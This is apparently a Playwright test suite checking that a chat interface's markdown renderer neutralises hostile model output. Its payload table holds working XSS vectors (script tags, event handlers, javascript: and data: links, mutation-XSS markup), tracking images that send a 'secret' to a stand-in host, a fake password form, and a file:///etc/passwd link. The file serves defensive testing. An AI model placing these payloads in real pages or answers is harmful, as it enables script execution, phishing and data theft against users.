import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import type { RunningServer } from '../../src/server/start-server.ts';
import { startScriptedServer } from '../server/test-server.ts';
import { answerWith, ask, finishedTurn, framesDrawn, launchOrSkip, openPage, recordProblems } from './browser.ts';

const HOST = 'https://elsewhere.example';

/** What answers try, by what they try it with. Each would call `alert`, or load something from elsewhere. */
const ATTACKS: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script in a block': `text\n\n<div><script src="${HOST}/x.js"></script></div>`,
  'a handler of an image': `<img src=x onerror="alert(1)">`,
  'a handler of a drawing': '<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName=x dur=1s></svg>',
  'a handler in a list': '- a <b onmouseover="alert(1)">b</b>\n- <details open ontoggle="alert(1)">',
  'a javascript: link': '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))',
  'an encoded javascript: link':
    '[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](\u0001javascript:alert(1))',
  'a javascript: autolink': '<javascript:alert(1)>',
  'a javascript: link by name': '[a][x]\n\n[x]: javascript:alert(1)',
  'a data: link': '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a vbscript: link': '[a](vbscript:alert(1)) [b](file:///etc/passwd) [c](blob:x)',
  'an image that phones home': `![pixel](${HOST}/pixel.png?q=secret)`,
  'an image by name': `![pixel][p]\n\n[p]: ${HOST}/pixel.png`,
  'an image in a link': `[![pixel](${HOST}/a.png)](${HOST})`,
  'an image in a table': `| a |\n|---|\n| ![p](${HOST}/a.png) <img src="${HOST}/b.png"> |`,
  'an image in a title': `# ![p](${HOST}/a.png)\n\n> ![q](${HOST}/b.png)`,
  'an attribute in a title': `[a](${HOST} "x\\" onmouseover=alert(1) y=\\"")`,
  'an attribute in an alternative text': `![x" onerror="alert(1)](${HOST}/a.png)`,
  'a style': `<style>@import url(${HOST}/x.css); body { background: url(${HOST}/b.png) }</style>`,
  'an inline style': `<p style="background:url(${HOST}/b.png);position:fixed;inset:0">over everything</p>`,
  'a frame': `<iframe src="${HOST}"></iframe><object data="${HOST}"></object><embed src="${HOST}">`,
  'a form': `<form action="${HOST}"><input name=password><button>Log in</button></form>`,
  'a base': `<base href="${HOST}/">\n\n[a](b)`,
  'a redirection': `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  'a preload': `<link rel="stylesheet" href="${HOST}/x.css"><link rel="prefetch" href="${HOST}/y">`,
  media: `<video src="${HOST}/v.mp4" autoplay></video><audio src="${HOST}/a.mp3" autoplay></audio><source srcset="${HOST}/a">`,
  'clobbered names': '<a id="question"></a><a name="body"></a><form id="send"><input name="textContent"></form>',
  'classes of the page':
    '<div class="over-experts skip" id="log">x</div>\n\n```over-experts" onclick="alert(1)\ncode\n```',
  'mutated markup':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a comment': '<!-- <img src=x onerror=alert(1)> --> <!--><img src=x onerror=alert(1)>',
  'markup in code':
    '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```\n\n`<img src=x onerror=alert(1)>`',
  'a tag cut in two': '<scr\u0000ipt>alert(1)</scr\u0000ipt><<script>alert(1)//<</script>',
  'bare tags with attributes': '<b onclick=alert(1)>b</b><br onerror=alert(1)><sub style="position:fixed">s</sub>',
};

/** Nodes and attributes of a message that could do more than be read. */
function dangers(page: Page): Promise<string[]> {
  return page.locator('#turns .markdown *').evaluateAll((elements) => {
    const known =
      'A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR I KBD LI MARK OL P PRE SPAN STRONG SUB SUP TABLE TBODY TD TH THEAD TR U UL'.split(
        ' ',
      );
    const attributes = 'align aria-label class href rel role start tabindex target title type'.split(' ');
    const classes = 'code code-head copy-code scrolling'.split(' ');
    return elements.flatMap((element) => [
      ...(known.includes(element.tagName) ? [] : [element.outerHTML]),
      ...[...element.attributes]
        .filter(
          ({ name, value }) =>
            !attributes.includes(name) ||
            (name === 'href' && !/^(?:https?|mailto):/.test(value)) ||
            (name === 'class' && !classes.includes(value) && !/^language-[\w+#.-]+$/.test(value)),
        )
        .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
    ]);
  });
}

/** Loads an image of the page's own: what answers asked for before it, and what came of that, has been seen then. */
async function loadImage(page: Page): Promise<void> {
  await framesDrawn(page);
  await page.evaluate(`new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = () => resolve();
    image.onerror = () => reject(new Error('the image did not come'));
    image.src = 'page/icon.svg?' + Math.random();
  })`);
}

describe('what a model writes', function () {
  let server: RunningServer;
  let browser: Browser;
  let page: Page;
  let problems: string[];
  const dialogs: string[] = [];
  const elsewhere: string[] = [];

  before(async function () {
    browser = await launchOrSkip(this);
    server = await startScriptedServer();
    await server.ready;
    page = await browser.newPage();
    problems = recordProblems(page);
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(server.url)) elsewhere.push(request.url());
    });
    await openPage(page, server.url);
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });
  beforeEach(async () => {
    await page.getByRole('button', { name: 'New chat' }).first().click();
    await page.locator('#empty').waitFor();
  });

  for (const [name, attack] of Object.entries(ATTACKS)) {
    it(`does nothing with ${name}`, async () => {
      // Whole, and in pieces: what is shown in between is no less dangerous.
      await answerWith(page, `${attack}\n\nand after it`);
      await ask(page, 'attack');
      await finishedTurn(page, 0);
      await answerWith(page, ...(`${attack}\n\nand after it`.match(/[^]{1,3}/gu) ?? []));
      await ask(page, 'attack slowly');
      const turn = await finishedTurn(page, 1);
      assert.match(await turn.innerText(), /and after it/);
      assert.deepEqual(await dangers(page), []);
      for (const target of await turn.locator('.body > :not(:has(a))').all()) await target.hover({ force: true });
      await loadImage(page);
      assert.deepEqual({ dialogs, elsewhere, problems }, { dialogs: [], elsewhere: [], problems: [] });
    });
  }

  it('opens links elsewhere without telling where they were found', async () => {
    await answerWith(page, `[a](${HOST}/a) and <${HOST}/b> and ![c](${HOST}/c.png)`);
    await ask(page, 'links');
    const links = (await finishedTurn(page, 0)).locator('.body a');
    const found = await links.evaluateAll((anchors) =>
      anchors.map((anchor) => ['href', 'target', 'rel', 'title'].map((name) => anchor.getAttribute(name))),
    );
    const rest = ['_blank', 'noopener noreferrer nofollow'];
    assert.deepEqual(found, [
      [`${HOST}/a`, ...rest, `${HOST}/a`],
      [`${HOST}/b`, ...rest, `${HOST}/b`],
      [`${HOST}/c.png`, ...rest, `${HOST}/c.png`],
    ]);
  });

  it('is stopped by the policy where it comes past everything else', async () => {
    // As if sanitising had failed: what a page of this policy does with markup.
    const refused = await page.locator('#turns').evaluate((place, host) => {
      const results: string[] = [];
      try {
        place.innerHTML = '<img src=x onerror=alert(1)>';
        results.push('markup was taken from a string');
      } catch (error) {
        results.push((error as Error).name);
      }
      const image = place.ownerDocument.createElement('img');
      image.src = `${host}/pixel.png`;
      const script = place.ownerDocument.createElement('script');
      script.append('alert(1)');
      place.append(image, script);
      return new Promise<string[]>((resolve) => {
        image.addEventListener('error', () => resolve([...results, 'no image']));
        image.addEventListener('load', () => resolve([...results, 'an image']));
      });
    }, HOST);
    assert.deepEqual(refused, ['TypeError', 'no image']);
    await loadImage(page);
    assert.deepEqual(dialogs, []);
    const csp = (await fetch(server.url)).headers.get('content-security-policy') ?? '';
    assert.doesNotMatch(csp, /unsafe|\*|https?:|data:|blob:/);
  });
});
